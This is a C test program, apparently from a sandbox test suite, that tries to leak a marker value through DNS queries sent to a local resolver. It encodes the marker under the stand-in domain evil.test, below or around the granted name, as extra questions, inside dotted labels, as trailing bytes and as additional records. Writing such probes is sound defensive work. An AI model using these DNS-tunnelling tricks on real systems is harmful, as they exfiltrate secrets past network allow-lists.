// Carries a secret out in the names that it asks the name server for: as a name that nobody granted,
// below a granted name, as a second question, in mixed case, over TCP, in other types and classes.
// class: Deno: names; OS sandboxes: data that leaves by DNS
// plain: message
// flags: --connect granted.test:80 --dns 127.0.0.1:{DNS_SERVER}
// journal: lookup *{MARK}*
#include "net.h"

static unsigned char query[512];

static size_t put_name(size_t at, const char* name) {
  while (*name) {
    const size_t n = strcspn(name, ".");
    query[at++] = (unsigned char)n;
    memcpy(query + at, name, n);
    at += n;
    name += n + (name[n] == '.');
  }
  query[at++] = 0;
  return at;
}

static size_t question(size_t at, const char* name, unsigned type, unsigned class) {
  at = put_name(at, name);
  query[at++] = (unsigned char)(type >> 8);
  query[at++] = (unsigned char)type;
  query[at++] = (unsigned char)(class >> 8);
  query[at++] = (unsigned char)class;
  return at;
}

static size_t begin(unsigned questions) {
  memcpy(query, "\x12\x34\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00", 12);
  query[5] = (unsigned char)questions;
  return 12;
}

static void ask(size_t size, const char* how) {
  struct sockaddr_in a = at_v4("127.0.0.1", number("DNS"));
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct timeval patience = {0, 300000};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  unsigned char answer[512];
  if (sendto(fd, query, size, 0, (struct sockaddr*)&a, sizeof a) < 0) refused(how);
  else if (recv(fd, answer, sizeof answer, 0) < 4) printf("refused: %s: no answer\n", how);
  else printf("%s: code %d\n", how, answer[3] & 15);
  close(fd);
  const int stream = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(stream, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  unsigned char length[2] = {(unsigned char)(size >> 8), (unsigned char)size};
  if (inside() && connect(stream, (struct sockaddr*)&a, sizeof a) == 0) {
    (void)!write(stream, length, 2);
    (void)!write(stream, query, size);
    (void)!read(stream, answer, sizeof answer);
  }
  close(stream);
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const char* mark = fact("MARK");
  ask(question(begin(1), text("%s.evil.test", mark), 1, 1), "another name");
  ask(question(begin(1), text("%s.evil.test", mark), 16, 1), "TXT");
  ask(question(begin(1), text("%s.evil.test", mark), 255, 255), "ANY");
  ask(question(begin(1), text("%s.granted.test", mark), 1, 1), "below the granted name");
  ask(question(begin(1), text("granted.test.%s.test", mark), 1, 1), "the granted name as a prefix");
  ask(question(begin(1), text("%sgranted.test", mark), 1, 1), "the granted name as a suffix");
  ask(question(question(begin(2), "granted.test", 1, 1), text("%s.evil.test", mark), 1, 1), "a second question");
  ask(question(begin(1), text("%s.in-addr.arpa", mark), 12, 1), "a reverse name");
  // Labels with a dot inside, which textual comparison takes for two.
  size_t at = begin(1);
  query[at++] = (unsigned char)(strlen(mark) + 1 + 7);
  at += (size_t)sprintf((char*)query + at, "%s.granted", mark);
  query[at++] = 4;
  memcpy(query + at, "test\0\0\1\0\1", 9);
  ask(at + 9, "a dot inside a label");
  // More after the question than the question.
  at = question(begin(1), "granted.test", 1, 1);
  memcpy(query + at, mark, strlen(mark));
  ask(at + strlen(mark), "bytes after the question");
  // What the resolver's answer is made of is not forwarded: an additional record with our word.
  at = question(begin(1), "granted.test", 1, 1);
  query[11] = 1;
  at = question(at, mark, 16, 1);
  memset(query + at, 0, 6);
  ask(at + 6, "an additional record");
  return 0;
}
